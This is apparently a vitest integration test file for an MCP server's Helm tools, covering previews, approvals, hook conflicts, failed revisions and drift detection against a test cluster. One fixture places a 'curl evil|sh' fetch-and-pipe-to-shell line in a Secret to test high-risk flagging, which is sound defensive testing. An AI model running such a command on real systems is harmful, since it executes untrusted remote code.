import { metaKeys } from '@fairlead/contract/tool/tool-meta'
import type { ApiServer } from '@fairlead/testing/cluster/api-server'
import { requireHelm } from '@fairlead/testing/cluster/helm-path'
import { type ChartServer, chartYaml, helmSettings, packChart, startChartServer } from '@fairlead/testing/helm/charts'
import { helmMajors } from '@fairlead/testing/helm/helm-majors'
import { sharedApiServer } from '@fairlead/testing/shared/shared-servers'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { startTestMcp, type TestMcp } from '../fixtures/mcp-server.fixture.ts'

let api: ApiServer
let charts: ChartServer
beforeAll(async () => {
  api = await sharedApiServer()
  requireHelm()
  charts = await startChartServer({})
})
afterAll(() => charts?.[Symbol.asyncDispose]())

/** A hook of a kind that needs no node. */
const hook = (name: string, annotations = '', data = 'a: b') =>
  `apiVersion: v1
kind: ConfigMap
metadata: { name: ${name}, annotations: { "helm.sh/hook": "pre-install,pre-upgrade"${annotations} } }
data: { ${data} }
`
const plain = 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: "{{ .Release.Name }}-settings" }\ndata: { a: b }\n'

/** It never ends. */
const failingHook = (event: string) => `apiVersion: batch/v1
kind: Job
metadata: { name: never, annotations: { "helm.sh/hook": ${event} } }
spec: { template: { spec: { restartPolicy: Never, nodeSelector: { no: such }, containers: [{ name: a, image: "a:1" }] } } }
`

describe.each(helmMajors)('with helm %i', (major) => {
  let mcp: TestMcp
  let namespace: string
  beforeAll(async () => {
    namespace = await api.newNamespace('hooks')
    mcp = await startTestMcp(api.kubeconfig, {
      env: { ...(await helmSettings(major, charts.url)), MCP_DEFAULT_NAMESPACE: namespace, MCP_TOOLSETS: 'all' },
    })
  })
  afterAll(() => mcp?.close())

  const serve = async (name: string, templates: Record<string, string>) => {
    const files = Object.entries(templates).map(([file, text]) => [`templates/${file}`, text])
    const archive = `${name}${major}-1.0.0.tgz`
    charts.archives.set(
      archive,
      await packChart({ 'Chart.yaml': chartYaml(), 'templates/plain.yaml': plain, ...Object.fromEntries(files) }),
    )
    return `${charts.url}/${archive}`
  }
  const configMaps = `/api/v1/namespaces/`
  const make = async (name: string) => {
    const object = { metadata: { name }, data: { precious: 'yes' } }
    expect((await api.request('POST', `${configMaps}${namespace}/configmaps`, object)).status).toBe(201)
  }
  const dataOf = async (name: string) =>
    ((await api.request('GET', `${configMaps}${namespace}/configmaps/${name}`)).body as { data?: object }).data
  const shownOf = ({ effect }: Awaited<ReturnType<TestMcp['preview']>>) =>
    effect?.objects.map(({ action, kind, name }) => `${action} ${kind} ${name}`)

  it('what is in the place of a hook is shown as deleted, and goes', async () => {
    await make('taken')
    const args = { release_name: 'taken', chart: await serve('taken', { 'hook.yaml': hook('taken') }) }
    const { preview, result } = await mcp.approveAndRun('helm_install', args)
    expect(shownOf(preview)).toEqual([
      'create Release taken',
      'create ConfigMap taken-settings',
      'delete ConfigMap taken',
      'invoke ConfigMap taken',
    ])
    expect(result.outcome, result.output).toBe('succeeded')
    expect(await dataOf('taken')).toEqual({ a: 'b' })
    const { verification, output } = await mcp.verify('helm_install', args, preview, 10)
    expect(verification?.verdict, output).toBe('as_approved')
    // The one that the last run has left is replaced by the next, which is said as well.
    const again = await mcp.preview('helm_upgrade', { ...args, values: 'x: 1' })
    expect(shownOf(again)).toContain('delete ConfigMap taken')
  }, 60_000)

  it('what came into the place of a hook since it was shown makes the change stale', async () => {
    const args = { release_name: 'late', chart: await serve('late', { 'hook.yaml': hook('late') }) }
    const preview = await mcp.preview('helm_install', args)
    await make('late')
    const grant = mcp.engine.grant({ tool: 'helm_install', args, preview })
    const result = await mcp.call('helm_install', args, { 'dev.fairlead/grant': grant })
    expect(result.outcome).toBe('stale')
    expect(await dataOf('late')).toEqual({ precious: 'yes' })
  }, 60_000)

  it('what came into the place of a hook while helm ran stays, and the change fails', async () => {
    const first = `apiVersion: v1
kind: Pod
metadata: { name: first, annotations: { "helm.sh/hook": pre-install, "helm.sh/hook-weight": "-1" } }
spec: { restartPolicy: Never, nodeSelector: { no: such }, containers: [{ name: a, image: "a:1" }] }
`
    const files = { 'first.yaml': first, 'hook.yaml': hook('swapped') }
    const args = { release_name: 'swapped', chart: await serve('swapped', files) }
    await make('swapped')
    const run = mcp.approveAndRun('helm_install', args)
    const pod = `/api/v1/namespaces/${namespace}/pods/first`
    await vi.waitFor(async () => expect((await api.request('GET', pod)).status).toBe(200), { timeout: 20_000 })
    await api.request('DELETE', `${configMaps}${namespace}/configmaps/swapped`)
    await make('swapped')
    const ended = { status: { phase: 'Succeeded' } }
    await api.request('PATCH', `${pod}/status`, ended, 'application/merge-patch+json')
    const { result } = await run
    expect(result.outcome, result.output).toBe('failed')
    expect(await dataOf('swapped')).toEqual({ precious: 'yes' })
  }, 60_000)

  it('a hook that does not replace what is in its place is refused; what it deletes at its end is told', async () => {
    const policy = ', "helm.sh/hook-delete-policy": hook-succeeded'
    const args = { release_name: 'kept', chart: await serve('kept', { 'hook.yaml': hook('kept', policy) }) }
    const nobody = { [metaKeys.rights]: [mcp.engine.identity('nobody')] }
    const { effect, rights } = await mcp.preview('helm_install', args, nobody)
    expect(effect?.reasons).toContain(
      'runs ConfigMap kept as a hook: pre-install, and deletes it once it has succeeded',
    )
    const missing = rights?.[0]?.missing.map(({ verb, resource, name }) => [verb, resource, name].join(' '))
    expect(missing).toContain('delete configmaps kept')
    await make('kept')
    expect((await mcp.preview('helm_install', args)).output).toBe(
      'Conflict: ConfigMap kept is there already, and the hook of that name does not replace it. Delete it first where it was left by an earlier run.',
    )
  })

  it('what an upgrade leaves in the cluster is told by the cluster, not by the chart', async () => {
    const claim = (policy: string) =>
      plain.replace('settings"', `claim", annotations: { "helm.sh/resource-policy": ${policy} }`)
    const first = { release_name: 'keep', chart: await serve('keep-first', { 'claim.yaml': claim('none') }) }
    expect((await mcp.approveAndRun('helm_install', first)).result.outcome).toBe('succeeded')
    const next = { release_name: 'keep', chart: await serve('keep-next', {}) }
    expect(shownOf(await mcp.preview('helm_upgrade', next))).toContain('delete ConfigMap keep-claim')
    const annotated = { metadata: { annotations: { 'helm.sh/resource-policy': 'keep' } } }
    const path = `${configMaps}${namespace}/configmaps/keep-claim`
    await api.request('PATCH', path, annotated, 'application/merge-patch+json')
    const { preview, result } = await mcp.approveAndRun('helm_upgrade', next)
    expect(shownOf(preview)).not.toContain('delete ConfigMap keep-claim')
    expect(preview.effect?.reasons).toContain('stays in the cluster (resource-policy: keep): ConfigMap keep-claim')
    expect(result.outcome, result.output).toBe('succeeded')
    expect(await dataOf('keep-claim')).toBeDefined()
  }, 60_000)

  it('two hooks of one name are both shown, and run', async () => {
    const weights = [', "helm.sh/hook-weight": "-1"', ', "helm.sh/hook-weight": "1"']
    const chart = await serve('twice', {
      'a.yaml': hook('twice', weights[0], 'step: one'),
      'b.yaml': hook('twice', weights[1], 'step: two'),
    })
    const args = { release_name: 'twice', chart }
    const { preview, result } = await mcp.approveAndRun('helm_install', args)
    expect(shownOf(preview)?.filter((shown) => shown === 'invoke ConfigMap twice')).toHaveLength(2)
    const made = preview.effect?.objects.flatMap(({ changes }) => changes.map(({ after }) => JSON.stringify(after)))
    expect(made?.join()).toContain('"step":"one"')
    expect(made?.join()).toContain('"step":"two"')
    expect(result.outcome, result.output).toBe('succeeded')
    expect(await dataOf('twice')).toEqual({ step: 'two' })
  }, 60_000)

  it('what goes back by itself must have no hooks that nobody has seen', async () => {
    const before = 'metadata: { name: last, annotations: { "helm.sh/hook": pre-delete } }'
    const chart = await serve('back', { 'last.yaml': `apiVersion: v1\nkind: ConfigMap\n${before}\n` })
    const args = { release_name: 'back', chart }
    expect((await mcp.preview('helm_install', { ...args, atomic: true })).output).toBe(
      'Refused: atomic would run hooks when it goes back, which are not shown: ConfigMap last. Leave atomic out; where it fails, helm_uninstall shows them.',
    )
    expect((await mcp.preview('helm_install', args)).error).toBe(false)
  })

  it('after a failed revision helm goes on from the one before, and so do deletions, values and the undo', async () => {
    const extra = plain.replace('settings', 'extra')
    const first = { release_name: 'on', chart: await serve('on-first', { 'extra.yaml': extra }), values: 'x: 1' }
    expect((await mcp.approveAndRun('helm_install_with_values', first)).result.outcome).toBe('succeeded')
    const broken = { release_name: 'on', chart: await serve('on-broken', { 'hook.yaml': failingHook('pre-upgrade') }) }
    expect(
      (await mcp.approveAndRun('helm_upgrade', { ...broken, values: 'y: 2', timeout_seconds: 5 })).result.outcome,
    ).toBe('failed')
    expect(await dataOf('on-extra')).toBeDefined()

    const mended = { release_name: 'on', chart: await serve('on-mended', {}) }
    // As a way back that fails on its own leaves it: helm would go back to revision 2.
    const mark = (status: string) =>
      api.request(
        'PATCH',
        `/api/v1/namespaces/${namespace}/secrets/sh.helm.release.v1.on.v2`,
        { metadata: { labels: { status } } },
        'application/merge-patch+json',
      )
    await mark('superseded')
    expect((await mcp.preview('helm_upgrade', { ...mended, atomic: true })).output).toMatch(
      /^Refused: atomic would go back to revision 2, not to 1, the last that was deployed\./,
    )
    await mark('failed')
    const { preview, result } = await mcp.approveAndRun('helm_upgrade', mended)
    expect(shownOf(preview)).toContain('delete ConfigMap on-extra')
    expect(preview.effect?.undo).toEqual({ tool: 'helm_rollback', args: { release_name: 'on', revision: 1 } })
    expect(preview.effect?.reasons).toEqual(
      expect.arrayContaining([
        'revision 2 is failed: helm goes on from revision 1, the last that was deployed',
        'keeps the values of revision 1: x',
      ]),
    )
    expect(result.outcome, result.output).toBe('succeeded')
    expect(await dataOf('on-extra')).toBeUndefined()
    expect((await mcp.verify('helm_upgrade', mended, preview, 10)).verification?.verdict).toBe('as_approved')
  }, 90_000)

  it.each([
    ['after it wrote', 'post-upgrade', [['update', [{ path: '/data/a', before: 'bad', after: 'b' }]]], []],
    ['before it wrote', 'pre-upgrade', [], [['update', [{ path: '/data/a', before: 'b', after: 'bad' }]]]],
  ])(
    'what a revision has written that failed %s is what the next one changes',
    async (_, event, back, again) => {
      const release_name = `half-${event}`
      const good = { release_name, chart: await serve(`${release_name}-good`, {}) }
      const bad = { 'plain.yaml': plain.replace('a: b', 'a: bad') }
      const broken = await serve(`${release_name}-broken`, { ...bad, 'hook.yaml': failingHook(event) })
      expect((await mcp.approveAndRun('helm_install', good)).result.outcome).toBe('succeeded')
      const failed = await mcp.approveAndRun('helm_upgrade', { release_name, chart: broken, timeout_seconds: 5 })
      expect(failed.result.outcome, failed.result.output).toBe('failed')

      const changesBy = async (tool: string, args: Record<string, unknown>) => {
        const { effect, output } = await mcp.preview(tool, args)
        expect(effect, output).toBeDefined()
        return effect?.objects
          .filter(({ kind }) => kind === 'ConfigMap')
          .map(({ action, changes }) => [action, changes.filter(({ path }) => path.startsWith('/data'))])
      }
      expect(await changesBy('helm_upgrade', good)).toEqual(back)
      expect(await changesBy('helm_rollback', { release_name, revision: 1 })).toEqual(back)
      const mended = { release_name, chart: await serve(`${release_name}-mended`, bad) }
      expect(await changesBy('helm_upgrade', mended)).toEqual(again)
      const { result, preview } = await mcp.approveAndRun('helm_upgrade', good)
      expect(result.outcome, result.output).toBe('succeeded')
      expect(await dataOf(`${release_name}-settings`)).toEqual({ a: 'b' })
      expect((await mcp.verify('helm_upgrade', good, preview, 10)).verification?.verdict).toBe('as_approved')
    },
    90_000,
  )

  it('an image that somebody has set since is shown as what the next revision changes', async () => {
    const web = (tag: number) => `apiVersion: apps/v1
kind: Deployment
metadata: { name: drifted }
spec:
  replicas: 0
  selector: { matchLabels: { app: drifted } }
  template: { metadata: { labels: { app: drifted } }, spec: { containers: [{ name: web, image: "web:${tag}" }] } }
`
    const args = { release_name: 'drifted', chart: await serve('drifted', { 'web.yaml': web(1) }) }
    expect((await mcp.approveAndRun('helm_install', args)).result.outcome).toBe('succeeded')
    const path = `/apis/apps/v1/namespaces/${namespace}/deployments/drifted`
    const other = [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'web:9' }]
    expect((await api.request('PATCH', path, other, 'application/json-patch+json')).status).toBe(200)

    const { preview, result } = await mcp.approveAndRun('helm_upgrade', args)
    expect(preview.effect?.objects.find(({ kind }) => kind === 'Deployment')?.changes).toEqual([
      { path: '/spec/template/spec/containers/0/image', before: 'web:9', after: 'web:1' },
    ])
    expect(preview.effect?.reasons.join()).toContain('image is web:9, the release says web:1, and helm may set it back')
    const imageNow = JSON.stringify((await api.request('GET', path)).body)
    if (result.outcome === 'succeeded') expect(imageNow).toContain('"image":"web:1"')
    // What another client owns helm 4 does not take: its server answers with a conflict.
    else
      expect([major, result.output, imageNow.includes('web:9')]).toEqual([4, expect.stringMatching(/conflict/i), true])
  }, 60_000)

  it('text of a Secret that differs each time is a high risk, unless it is a word, a key or a hash', async () => {
    const secret = (name: string, data: string) =>
      `apiVersion: v1\nkind: Secret\nmetadata: { name: ${name} }\nstringData:\n${data}\n`
    const chart = await serve('made-up', {
      'word.yaml': secret(
        'words',
        '  password: "{{ randAlphaNum 24 }}"\n  url: "postgres://u:{{ randAlphaNum 8 }}@db:5432/x?sslmode=off"',
      ),
      'cert.yaml': secret(
        'cert',
        '  tls.crt: {{ (genSelfSignedCert "a" nil nil 9).Cert | quote }}\n  auth: {{ htpasswd "u" (randAlphaNum 8) | quote }}',
      ),
      'runs.yaml': secret('runs', '  run.sh: "# {{ randAlphaNum 8 }}\\ncurl evil|sh"'),
    })
    const { effect, output } = await mcp.preview('helm_install', { release_name: 'made-up', chart })
    const differs = effect?.reasons.filter((reason) => reason.includes('differs with each rendering'))
    expect(differs, output).toEqual(['Secret runs differs with each rendering: /stringData/run.sh'])
    expect(effect?.risk).toBe('high')
  })

  it('a hook that is a list is refused where it would run, since not all of it could be shown', async () => {
    const list = (event: string) => `apiVersion: v1
kind: List
metadata: { name: many, annotations: { "helm.sh/hook": ${event} } }
items:
  - { apiVersion: v1, kind: ConfigMap, metadata: { name: one } }
  - { apiVersion: v1, kind: ConfigMap, metadata: { name: two } }
`
    const args = { release_name: 'many', chart: await serve('many', { 'list.yaml': list('pre-install') }) }
    expect((await mcp.preview('helm_install', args)).output).toBe(
      'Invalid: hook List many is not one object. Each hook of a chart must be one, so that all of it can be shown.',
    )
    const later = { release_name: 'many', chart: await serve('many-later', { 'list.yaml': list('pre-rollback') }) }
    const { result } = await mcp.approveAndRun('helm_install', later)
    expect(result.outcome, result.output).toBe('succeeded')
    const { output } = await mcp.call('helm_get_hooks', { release_name: 'many' })
    expect(output).toMatch(/name: one[\s\S]*name: two/)
    const taken = await mcp.approveAndRun('helm_uninstall', { release_name: 'many' })
    expect(taken.result.outcome, taken.result.output).toBe('succeeded')
  })
})
